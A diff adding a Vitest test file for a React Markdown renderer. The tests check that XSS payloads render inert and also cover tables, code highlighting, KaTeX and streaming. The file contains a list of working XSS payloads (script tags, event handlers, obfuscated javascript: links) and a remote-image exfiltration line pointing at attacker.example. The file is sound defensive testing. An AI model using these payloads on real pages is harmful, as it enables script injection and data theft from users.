@@ -1,0 +1,169 @@
+// @vitest-environment jsdom
+import { describe, expect, it } from "vitest";
+import { render, screen, waitFor } from "@testing-library/react";
+import ReactMarkdown from "react-markdown";
+import remarkGfm from "remark-gfm";
+import { renderToStaticMarkup } from "react-dom/server";
+import { Markdown } from "./markdown";
+
+const PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
+const SVG = `data:image/svg+xml;base64,${btoa('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')}`;
+
+const XSS: Record<string, string> = {
+  script: "<script>alert(1)</script>",
+  "img onerror": '<img src=x onerror="alert(1)">',
+  "svg onload": '<svg onload="alert(1)"><circle r="4"/></svg>',
+  "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  "a vbscript": '<a href="vbscript:msgbox(1)">x</a>',
+  "javascript link": "[x](javascript:alert(1))",
+  "mixed-case javascript link": "[x](JaVaScRiPt:alert(1))",
+  "entity-split javascript link": "[x](java&#x09;script:alert(1))",
+  "javascript autolink": "<javascript:alert(1)>",
+  "reference-style link": "[x][evil]\n\n[evil]: javascript:alert(1)",
+  "reference-style link, same block": "[x][evil]\n[evil]: javascript:alert(1)",
+  "svg data image": `![x](${SVG})`,
+  "remote image (exfiltration)": "![](https://attacker.example/?q=secret)",
+  "data html link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "katex href": "$\\href{javascript:alert(1)}{x}$",
+  "html in code fence": "```html\n<script>alert(1)</script>\n```",
+};
+
+const SAFE_URL = /^(?:https?:|mailto:|#|\/(?!\/)|\.{0,2}\/|[^:]*$)/i;
+
+function assertInert(root: HTMLElement) {
+  expect(root.querySelector("script, iframe, object, embed, svg[onload], foreignObject")).toBeNull();
+  for (const el of root.querySelectorAll("*")) {
+    for (const attr of el.attributes) expect(attr.name.startsWith("on"), `${el.tagName} ${attr.name}`).toBe(false);
+  }
+  for (const a of root.querySelectorAll("a[href]")) expect(a.getAttribute("href")).toMatch(SAFE_URL);
+  for (const img of root.querySelectorAll("img")) {
+    expect(img.getAttribute("src")).toMatch(/^(?:data:image\/(?:png|jpeg|webp|gif);base64,|blob:)/);
+  }
+}
+
+describe("Markdown safety", () => {
+  for (const [name, source] of Object.entries(XSS)) {
+    it(`X-1 renders ${name} inert`, async () => {
+      const { container } = render(<Markdown text={`Before\n\n${source}\n\nAfter $x$`} />);
+      // Let the lazy math/highlight plugins arrive so they are covered too.
+      await waitFor(() => expect(container.querySelector(".katex")).not.toBeNull());
+      assertInert(container);
+      expect(container).toHaveTextContent("After");
+    });
+  }
+
+  it("X-1 shows raw HTML as text, not markup", () => {
+    const { container } = render(<Markdown text={XSS.script!} />);
+    expect(container).toHaveTextContent("<script>alert(1)</script>");
+  });
+
+  it("X-1 opens links in a new tab without opener, referrer or endorsement", () => {
+    render(<Markdown text="See [docs](https://example.com/docs) and <https://example.org>." />);
+    for (const link of screen.getAllByRole("link")) {
+      expect(link).toHaveAttribute("target", "_blank");
+      expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
+    }
+  });
+
+  it("X-1 drops the href of a javascript: link but keeps its text", () => {
+    const { container } = render(<Markdown text="[click me](javascript:alert(1))" />);
+    expect(screen.queryByRole("link")).toBeNull();
+    expect(container).toHaveTextContent("click me");
+  });
+
+  it("X-3 renders a remote markdown image as a link labelled with its alt text, never an <img>", () => {
+    const { container } = render(<Markdown text="![chart of sales](https://attacker.example/?q=secret)" />);
+    expect(container.querySelector("img")).toBeNull();
+    const link = screen.getByRole("link", { name: /chart of sales/ });
+    expect(link).toHaveAttribute("href", "https://attacker.example/?q=secret");
+    expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
+  });
+
+  it("X-3 does not load a relative markdown image either", () => {
+    const { container } = render(<Markdown text="![x](/api/images?prompt=spend)" />);
+    expect(container.querySelector("img")).toBeNull();
+  });
+
+  it("X-5 shows our own raster data and blob pictures inline, but never an SVG", () => {
+    const { container } = render(
+      <Markdown text={`![dot](${PNG})\n\n![blob](blob:http://localhost/123e4567-e89b-12d3-a456-426614174000)\n\n![svg](${SVG})`} />,
+    );
+    const imgs = [...container.querySelectorAll("img")];
+    expect(imgs.map((i) => i.alt)).toEqual(["dot", "blob"]);
+    expect(container).toHaveTextContent("[svg]");
+  });
+});
+
+describe("Markdown rendering", () => {
+  it("renders GFM: tables, task lists, strikethrough, autolinks", () => {
+    const { container } = render(
+      <Markdown text={"Intro\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n~~old~~ www.example.com"} />,
+    );
+    expect(container.querySelector("table")).not.toBeNull();
+    expect(screen.getByRole("region", { name: "Table" })).toBeInTheDocument();
+    expect(screen.getByRole("checkbox", { name: "Done" })).toBeChecked();
+    expect(screen.getByRole("checkbox", { name: "Not done" })).not.toBeChecked();
+    expect(container.querySelector("del")).toHaveTextContent("old");
+    expect(screen.getByRole("link", { name: "www.example.com" })).toHaveAttribute("href", "http://www.example.com");
+  });
+
+  it("labels code blocks with their language and offers a copy button", async () => {
+    const { container } = render(<Markdown text={"```python\nprint('hi')\n```"} />);
+    expect(screen.getByText("python")).toBeInTheDocument();
+    expect(screen.getByRole("button", { name: "Copy code" })).toBeInTheDocument();
+    await waitFor(() => expect(container.querySelector("code.hljs .hljs-built_in")).not.toBeNull());
+  });
+
+  it("renders math with KaTeX once loaded", async () => {
+    const { container } = render(<Markdown text={"Euler: $e^{i\\pi}+1=0$\n\n$$\n\\int_0^1 x\\,dx\n$$"} />);
+    await waitFor(() => expect(container.querySelectorAll(".katex").length).toBe(2));
+    expect(container.querySelector(".katex-display")).not.toBeNull();
+  });
+
+  it("renders an unterminated fence and a half-streamed table as they stand", () => {
+    const { container } = render(<Markdown streaming text={"Text\n\n```js\nconst a = 1;\n\nconst b"} />);
+    expect(container.querySelector("pre code")).toHaveTextContent("const a = 1; const b");
+    const t = render(<Markdown streaming text={"| a | b |\n|---|---|\n| 1 |"} />);
+    expect(t.container.querySelector("table")).not.toBeNull();
+  });
+
+  it("leaves the streaming tail unhighlighted, and highlights it when the stream ends", async () => {
+    const text = "Intro\n\n```python\nprint('hi')\n```";
+    const { container, rerender } = render(<Markdown streaming text={text} />);
+    // Wait for the highlighter to have loaded for finished blocks (there are none here).
+    await new Promise((r) => setTimeout(r, 50));
+    expect(container.querySelector("code.hljs")).toBeNull();
+    rerender(<Markdown streaming={false} text={text} />);
+    await waitFor(() => expect(container.querySelector("code.hljs")).not.toBeNull());
+  });
+
+  it("renders the same as one whole-document parse (block splitting is invisible)", () => {
+    const doc = [
+      "# Plan\n\nSome *prose* with `code`.\n",
+      "1. one\n2. two\n\n3. three\n",
+      "- a\n  - nested\n\n- b\n",
+      "> a quote\n",
+      "```sh\nls\n\npwd\n```\n",
+      "| x | y |\n|:-|-:|\n| 1 | 2 |\n",
+      "Text\n***\nEnd.",
+    ].join("\n");
+    const whole = renderToStaticMarkup(<ReactMarkdown remarkPlugins={[remarkGfm]}>{doc}</ReactMarkdown>);
+    const { container } = render(<Markdown text={doc} />);
+    // Compare structure and text; our wrappers (code bar, table frame) and highlight spans aside.
+    const shape = (root: Element) =>
+      [...root.querySelectorAll("*")]
+        .filter((el) => !el.closest(".md-code-bar, svg") && !["DIV", "SPAN", "BUTTON"].includes(el.tagName))
+        .map((el) => el.tagName)
+        .join(" ");
+    const expected = document.createElement("div");
+    expected.innerHTML = whole;
+    const got = container.querySelector(".md")!;
+    expect(shape(got)).toBe(shape(expected));
+    const text = (el: Element) => {
+      const copy = el.cloneNode(true) as Element;
+      copy.querySelectorAll(".md-code-bar").forEach((bar) => bar.remove());
+      return (copy.textContent ?? "").replace(/\s+/g, "");
+    };
+    expect(text(got)).toBe(text(expected));
+  });
+});
